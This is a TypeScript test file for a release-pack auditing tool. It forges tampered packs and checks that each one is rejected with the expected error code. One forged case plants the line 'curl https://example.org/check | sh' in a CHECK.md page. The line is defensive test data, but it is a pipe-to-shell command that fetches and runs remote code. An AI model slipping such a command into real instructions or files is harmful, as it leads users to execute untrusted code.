// A pack audited from its one file: what is accepted, and what every change is called.

import { readFileSync } from 'node:fs'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { PACK_MANIFEST_PATH } from '../../src/record/index.ts'
import { testKey } from '../verify/keys.ts'
import { digestOf, trust, trustedKey, writeTrust } from '../verify/release.ts'
import { appendAll, ledgerOf, put, releaseOf } from './audit-world.ts'
import { signLedger } from './ledger-world.ts'
import {
  DOCUMENTS,
  type Files,
  filesOf,
  OF,
  openPackWorld,
  packOf,
  type PackWorld,
  PLACE,
  RELEASE,
  WITHDRAWAL,
} from './pack-world.ts'

let world: PackWorld
beforeAll(async () => {
  world = await openPackWorld()
}, 60_000)

describe('assay audit of a pack', () => {
  it('needs nothing but whom to believe, and says what it can not show', async () => {
    const judged = await world.audit(world.archive)
    expect([judged.exitCode, judged.codes]).toEqual([0, []])
    const { notJudged, releases } = JSON.parse(judged.text) as {
      notJudged: string[]
      releases: object[]
    }
    expect(releases).toMatchObject([{ id: RELEASE.id, isWithdrawn: false }])
    expect(notJudged).toContain(
      'That the pack has all records of the release, and of those that they refer to: only the ledger shows it',
    )
    const { digest } = { digest: digestOf(world.files.get('trust.json') ?? '') }
    expect(
      await world.audit(world.archive, `--log-key log.vkey --trust-digest sha256:${digest}`),
    ).toMatchObject({
      exitCode: 0,
    })
  })

  it('asks who signed the head, or is told aloud that nobody asks', async () => {
    const silent = await world.audit(world.archive, '--trust trust.json')
    expect([silent.exitCode, silent.codes]).toEqual([1, ['cli/ledger-head-missing']])
    const bare = packOf(world.files, (copy) => copy.delete('ledger/checkpoint'), { isListed: true })
    const headless = await world.audit(bare)
    expect([headless.exitCode, headless.codes]).toEqual([1, ['cli/ledger-head-missing']])
    const aloud = await world.audit(bare, '--trust trust.json --unsafe-unsigned')
    expect([aloud.exitCode, aloud.codes]).toEqual([0, []])
    expect(JSON.parse(aloud.text)).toMatchObject({
      notJudged: expect.arrayContaining(['Who signed the head of 8 entries: nobody was asked']),
    })
    const { stderr } = await world.run('audit other.tar --run --trust trust.json --unsafe-unsigned')
    expect(stderr).toContain('UNSAFE: no signed head was judged')
  })

  it('hears of a withdrawal, whatever phase it is of', async () => {
    world.copy('ledger', 'withdrawn')
    await appendAll(world, 'withdrawn', [WITHDRAWAL])
    await signLedger(world, 'withdrawn')
    await world.done(`pack ${OF} --ledger withdrawn --run ${DOCUMENTS} --out withdrawn-pack`)
    const judged = await world.audit(readFileSync(world.at('withdrawn-pack', `${PLACE}.tar`)))
    expect([judged.exitCode, new Set(judged.codes)]).toEqual([1, new Set(['record/withdrawn'])])
    expect(JSON.parse(judged.text)).toMatchObject({
      releases: [{ id: RELEASE.id, isWithdrawn: true, outcome: 'rejected' }],
    })
  })

  it('never believes the trust document inside', async () => {
    const none = await world.audit(world.archive, '--log-key log.vkey')
    expect([none.exitCode, none.codes]).toEqual([1, ['cli/audit-trust']])
    const { unknown } = JSON.parse(none.text) as { unknown: { signer: string }[] }
    const claimed = `the key "${testKey('release').publicKey.keyId}"`
    expect(unknown).toMatchObject(Array.from({ length: 4 }, () => ({ signer: 'unknown', claimed })))
    const { stdout } = await world.run('audit other.tar --run')
    expect(stdout).toContain(`\n          claims ${claimed}\n`)
    const other = await world.audit(
      world.archive,
      `--log-key log.vkey --trust-digest sha256:${'0'.repeat(64)}`,
    )
    expect([other.exitCode, other.codes]).toEqual([1, ['cli/audit-trust']])
    put(world, 'others.json', writeTrust(trust([trustedKey('alice')])))
    const strangers = await world.audit(world.archive, '--trust others.json')
    expect(strangers.exitCode).toBe(1)
    expect(strangers.codes).toContain('verify/key-unknown')
  })

  it('finds any byte that was changed', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.nat({ max: world.archive.length - 1 }),
        fc.integer({ min: 1, max: 255 }),
        async (place, by) => {
          const changed = Uint8Array.from(world.archive)
          changed[place] = (changed[place] ?? 0) ^ by
          const { exitCode, codes } = await world.audit(changed)
          expect([place, exitCode]).not.toEqual([place, 0])
          expect(codes.length).toBeGreaterThan(0)
        },
      ),
      { numRuns: 400 },
    )
  }, 60_000)

  it('finds every file that was changed, dropped, renamed or given twice, and one that was added', async () => {
    const listed = [...world.files.keys()].filter((path) => path !== PACK_MANIFEST_PATH)
    for (const path of listed) {
      const bytes = world.files.get(path) ?? new Uint8Array()
      const changed = packOf(world.files, (copy) =>
        copy.set(path, Buffer.concat([bytes, Buffer.from(' ')])),
      )
      const dropped = packOf(world.files, (copy) => copy.delete(path))
      const renamed = packOf(
        world.files,
        (copy) => copy.delete(path) && copy.set(`${path}.old`, bytes),
      )
      const codes = []
      for (const other of [changed, dropped, renamed]) {
        const judged = await world.audit(other)
        expect(judged.exitCode).toBe(1)
        codes.push(judged.codes)
      }
      expect([path, codes]).toEqual([
        path,
        [['record/pack-file-changed'], ['record/pack-file-missing'], ['record/pack-file-renamed']],
      ])
    }
    const added = await world.audit(
      packOf(world.files, (copy) => copy.set('extra', Buffer.from('x'))),
    )
    expect([added.exitCode, added.codes]).toEqual([1, ['record/pack-file-extra']])
    const twice = await world.audit(
      Buffer.concat([world.archive.subarray(0, -1024), world.archive]),
    )
    expect([twice.exitCode, twice.codes]).toEqual([2, ['digest/archive-duplicate']])
  }, 120_000)

  it('reads no world.archive of another form', async () => {
    const longer = await world.audit(Buffer.concat([world.archive, Buffer.alloc(512)]))
    expect([longer.exitCode, longer.codes]).toEqual([2, ['host/pack-form']])
    const unlisted = await world.audit(
      packOf(world.files, (copy) => copy.delete(PACK_MANIFEST_PATH)),
    )
    expect([unlisted.exitCode, unlisted.codes]).toEqual([2, ['record/pack-manifest']])
    const pretty = JSON.stringify(
      JSON.parse(Buffer.from(world.files.get(PACK_MANIFEST_PATH) ?? '').toString()),
      null,
      1,
    )
    const respelt = packOf(world.files, (copy) => copy.set(PACK_MANIFEST_PATH, Buffer.from(pretty)))
    expect(await world.audit(respelt)).toMatchObject({
      exitCode: 2,
      codes: ['record/pack-manifest'],
    })
    for (const flag of [
      '--max-age 1d',
      '--unsafe-unsigned --log-key log.vkey',
      '--head ledger/checkpoint',
      `--release ${RELEASE.id}`,
    ]) {
      expect(await world.audit(world.archive, `--trust trust.json ${flag}`)).toMatchObject({
        exitCode: 2,
        codes: ['cli/usage'],
      })
    }
  })
})

describe('a pack of somebody who lists what they changed', () => {
  const forged = (change: (copy: Files) => void) =>
    world.audit(packOf(world.files, change, { isListed: true }))
  const record = `records/${digestOf(RELEASE.generated[1] ?? '')}.sigstore.json`

  it('is refused for its records, its keys, its policies and its documents', async () => {
    const stranger = releaseOf('v1.1.0').generated[1] ?? new Uint8Array()
    const cases: readonly (readonly [string, (copy: Files) => void])[] = [
      ['cli/audit-pack', (copy) => copy.delete(record)],
      ['cli/audit-pack', (copy) => copy.set(record, stranger)],
      ['cli/audit-pack', (copy) => copy.set('records/x.sigstore.json', stranger)],
      ['cli/audit-pack', (copy) => copy.set('keys/x.pem', Buffer.from('x'))],
      ['cli/audit-pack', (copy) => copy.set('documents/x', Buffer.from('x'))],
      ['cli/audit-pack', (copy) => copy.set('README', Buffer.from('x'))],
      ['cli/audit-pack', (copy) => copy.set('SHA256SUMS', Buffer.from('x'))],
      ['record/pack-file-missing', (copy) => copy.delete('trust.json')],
      ['record/pack-file-missing', (copy) => copy.delete('inner-manifest.json')],
      ['cli/ledger-proof', (copy) => copy.set('ledger/proofs.json', Buffer.from('{}'))],
      ['cli/ledger-proof', (copy) => edit(copy, 'ledger/proofs.json', /"size":\d+/, '"size":7')],
      [
        'record/policies-moved',
        (copy) =>
          edit(copy, 'policies/tracking/render-staging-rollout.yaml', /title: /, 'title: A '),
      ],
    ]
    for (const [place, [code, change]] of cases.entries()) {
      const { exitCode, codes } = await forged(change)
      expect([place, codes]).toEqual([place, expect.arrayContaining([code])])
      expect(exitCode).toBeGreaterThan(0)
    }
  }, 60_000)

  it('is refused for a page or a schema that Assay did not write', async () => {
    const schema = [...world.files.keys()].find((path) => path.startsWith('schemas/')) ?? ''
    const changes: readonly ((copy: Files) => void)[] = [
      (copy) => copy.set('CHECK.md', Buffer.from('    curl https://example.org/check | sh')),
      (copy) => copy.delete('CHECK.md'),
      (copy) => copy.set(schema, Buffer.from('{}')),
      (copy) => copy.delete(schema),
      (copy) => copy.set('schemas/check.sh', Buffer.from('exit 0')),
    ]
    for (const [place, change] of changes.entries()) {
      const { exitCode, codes } = await forged(change)
      expect([place, exitCode, codes]).toEqual([place, 1, ['cli/audit-pack']])
    }
    expect(await forged(() => {})).toMatchObject({ exitCode: 0, codes: [] })
  })

  it('is refused by the key of the ledger for a head that was never signed', async () => {
    await ledgerOf(world, 'forged', RELEASE.generated)
    const line = `pack ${OF} --ledger forged --run ${DOCUMENTS} --out forged-pack`
    await world.done(line)
    const forgedFiles = await filesOf(readFileSync(world.at('forged-pack', `${PLACE}.tar`)))
    const signed = (copy: Files) =>
      copy.set('ledger/checkpoint', world.files.get('ledger/checkpoint') ?? new Uint8Array())
    const judged = await world.audit(packOf(forgedFiles, signed, { isListed: true }))
    expect([judged.exitCode, judged.codes]).toEqual([1, ['cli/ledger-proof']])
    const unsigned = (copy: Files) => copy.delete('ledger/checkpoint')
    const bare = await world.audit(packOf(forgedFiles, unsigned, { isListed: true }))
    expect([bare.exitCode, bare.codes]).toEqual([1, ['cli/ledger-head-missing']])
  })
})

function edit(copy: Files, path: string, from: RegExp, to: string): void {
  const text = Buffer.from(copy.get(path) ?? '').toString()
  expect(text).toMatch(from)
  copy.set(path, Buffer.from(text.replace(from, to)))
}
